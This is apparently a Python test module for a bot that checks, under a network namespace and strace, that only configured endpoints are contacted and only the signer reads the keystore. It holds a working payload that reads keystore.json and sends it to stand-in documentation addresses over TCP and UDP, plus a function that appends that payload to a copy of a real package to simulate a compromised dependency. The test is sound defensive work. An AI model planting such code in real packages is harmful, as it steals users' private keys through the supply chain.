"""Egress: only configured endpoints are ever contacted, and a rogue dependency is noticed (REL-S2, REL-O8).

``look`` runs the bot in a network namespace with loopback alone, against a devnet of its own that nothing
outside can reach, and reads by strace whatever it tried to contact and who opened the keystore. ``rogue``
does so with a dependency that sends the keystore away when it is imported. Needs Linux, strace and unshare,
and the right to make a namespace; without them ``NotPossibleHere`` says what is missing.
"""

import argparse
import importlib.util
import json
import os
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from campaign.traced import Contact, Opened, Trace, read_trace

TESTS = Path(__file__).parents[1]
EVERY_COMMAND = ("dry", "live", "service", "dashboard", "alerts", "doctor")
KEYSTORE = "keystore.json"
MAY_READ_THE_KEYSTORE = ("signer", "doctor")  # commands; doctor looks whether it is one, without its password
STOLEN_BY = "platformdirs"  # a real dependency, which every command imports
ELSEWHERE, ELSEWHERE_BY_NAME = "203.0.113.7:443", "198.51.100.9:53"  # addresses of documentation, RFC 5737
TIMEOUT_S = 560
# glibc asks a name cache for users and hosts, where a machine has one: a socket of this machine.
SYSTEM = frozenset({"unix:/var/run/nscd/socket"})

ROGUE = """

def _steal():
    import pathlib, socket
    try:
        loot = pathlib.Path("keystore.json").read_bytes()
    except OSError:
        loot = b"nothing"
    ways = (socket.SOCK_STREAM, ("203.0.113.7", 443)), (socket.SOCK_DGRAM, ("198.51.100.9", 53))
    for kind, target in ways:
        try:
            with socket.socket(socket.AF_INET, kind) as out:
                out.settimeout(1)
                if kind == socket.SOCK_DGRAM:
                    out.sendto(loot, target)
                else:
                    out.connect(target)
                    out.sendall(loot)
        except OSError:
            pass
    return loot

_steal()
"""


class NotPossibleHere(RuntimeError):
    """This machine cannot run the egress test; the message says why and what to do."""


@dataclass(frozen=True, slots=True)
class Seen:
    """What the commands of one run reached for."""

    endpoints: dict[str, str]  # node, hook, heart -> address:port
    codes: dict[str, int]  # exit code of each command
    contacted: frozenset[str]
    foreign: tuple[Contact, ...]
    key_readers: tuple[Opened, ...]  # processes that opened the keystore and are not the signer
    bytes_out: int  # by any interface but loopback

    def problems(self) -> list[str]:
        """Return one line for each thing that must not be; none when all is well."""
        found = sorted({f"{one.command!r} tried to reach {one.to} by {one.call}" for one in self.foreign})
        found += sorted({f"{one.command!r} opened the keystore: {one.ended}" for one in self.key_readers})
        found += [f"{self.bytes_out} bytes left the namespace"] if self.bytes_out else []
        found += [f"alvh {name} ended with {code}" for name, code in self.codes.items() if code]
        return found


def look(folder: Path, commands: Sequence[str] = EVERY_COMMAND, *, path: Path | None = None) -> Seen:
    """Run commands of egress_child.py in an empty ``folder``; ``path`` goes before all other packages.

    Raises NotPossibleHere, and RuntimeError when the run inside could not be made.
    """
    needs()
    python_path = [str(part) for part in (path, TESTS, TESTS.parent) if part is not None]
    child = [sys.executable, str(TESTS / "campaign" / "egress_child.py"), str(folder), *commands]
    done = subprocess.run(
        [*_namespace(), *child],
        env={**os.environ, "PYTHONPATH": os.pathsep.join(python_path), "PYTHONSAFEPATH": "1"},
        capture_output=True,
        text=True,
        timeout=TIMEOUT_S,
        check=False,
    )
    if done.returncode:
        raise RuntimeError(
            f"the run inside the namespace ended with {done.returncode}: {done.stderr[-2_000:]}"
        )
    seen = json.loads((folder / "seen.json").read_text())
    return _judged(folder, seen, [read_trace((folder / f"{name}.trace").read_text()) for name in commands])


def _judged(folder: Path, seen: dict[str, Any], traces: Sequence[Trace]) -> Seen:
    endpoints = {name: seen[name] for name in ("node", "hook", "heart")}
    allowed = frozenset(endpoints.values()) | SYSTEM
    return Seen(
        endpoints=endpoints,
        codes=seen["codes"],
        contacted=frozenset(one.to for trace in traces for one in trace.contacts),
        foreign=tuple(one for trace in traces for one in trace.foreign(allowed, folder=folder)),
        key_readers=tuple(
            one for trace in traces for one in trace.readers(folder / KEYSTORE, but=may_read_the_keystore)
        ),
        bytes_out=seen["bytes_out"],
    )


def may_read_the_keystore(command: str) -> bool:
    """True for the signer, and for the command that checks a configuration."""
    return any(word in MAY_READ_THE_KEYSTORE for word in command.split())


def needs() -> None:
    """Raise NotPossibleHere unless this machine can trace and make a network namespace."""
    for tool in ("strace", "unshare"):
        if shutil.which(tool) is None:
            raise NotPossibleHere(f"the egress test needs {tool}, which is not here: apt-get install {tool}")
    for what in ([*_namespace(), "true"], ["strace", "-qq", "-o", os.devnull, "true"]):
        done = subprocess.run(what, capture_output=True, text=True, timeout=20, check=False)
        if done.returncode:
            raise NotPossibleHere(
                f"{' '.join(what)} was refused: {done.stderr.strip()}; allow it, or be root"
            )


def _namespace() -> list[str]:
    """Return how to start something in a network namespace of its own."""
    return ["unshare", "--net"] if os.geteuid() == 0 else ["unshare", "--map-root-user", "--net"]


def plant(folder: Path, package: str = STOLEN_BY, *, code: str = ROGUE) -> Path:
    """Copy an installed package into ``folder`` with more in it, as a stolen release has."""
    found = importlib.util.find_spec(package)
    if found is None or found.origin is None:
        raise LookupError(f"{package} is not installed, so nothing can be planted in it")
    shutil.copytree(Path(found.origin).parent, folder / package)
    with (folder / package / "__init__.py").open("a") as file:
        file.write(code)
    return folder


def rogue(folder: Path, commands: Sequence[str] = ("live",)) -> Seen:
    """Run the bot with a stolen dependency on its path (REL-O8).

    ``problems()`` of what comes back must be loud, and ``bytes_out`` 0.
    """
    home = folder / "home"
    home.mkdir(parents=True)
    return look(home, commands, path=plant(folder / "rogue"))


def run(options: Any = None) -> dict[str, Any]:
    """Run every command clean, then with the rogue dependency; print both and return the figures.

    Raises NotPossibleHere where the machine cannot do it: this part is never passed by not being run.
    """
    with tempfile.TemporaryDirectory(prefix="alvh-egress-") as scratch:
        clean = look(_made(Path(scratch) / "clean"))
        print(f"egress: {len(clean.codes)} commands reached {', '.join(sorted(clean.contacted))}", flush=True)
        stolen = rogue(Path(scratch) / "stolen")
    for line in clean.problems():
        print(f"egress: WRONG: {line}", flush=True)
    for line in stolen.problems():
        print(f"egress: noticed of the rogue: {line}", flush=True)
    silent = sorted(set(clean.endpoints.values()) - clean.contacted)
    problems = [*clean.problems(), *(f"{one} was never contacted" for one in silent)]
    return {
        "egress_commands": len(clean.codes),
        "egress_foreign": len(clean.foreign),
        "egress_problems": len(problems),
        "egress_where": problems,
        "rogue_noticed": int(noticed(stolen)),
        "rogue_connected": sum(one.connected for one in stolen.foreign),
    }


def noticed(seen: Seen) -> bool:
    """True when a run of ``rogue`` shows both ways out and a reader of the keystore beside the signer."""
    return {ELSEWHERE, ELSEWHERE_BY_NAME} <= {one.to for one in seen.foreign} and bool(seen.key_readers)


def _made(folder: Path) -> Path:
    folder.mkdir(parents=True)
    return folder


def main() -> int:
    argparse.ArgumentParser(description="Are only configured endpoints ever contacted?").parse_args()
    try:
        figures = run()
    except NotPossibleHere as why:
        print(f"error: {why}", file=sys.stderr)
        return 1
    print(json.dumps(figures, indent=2))
    return 0 if figures["rogue_noticed"] and not figures["egress_problems"] else 1


if __name__ == "__main__":
    sys.exit(main())
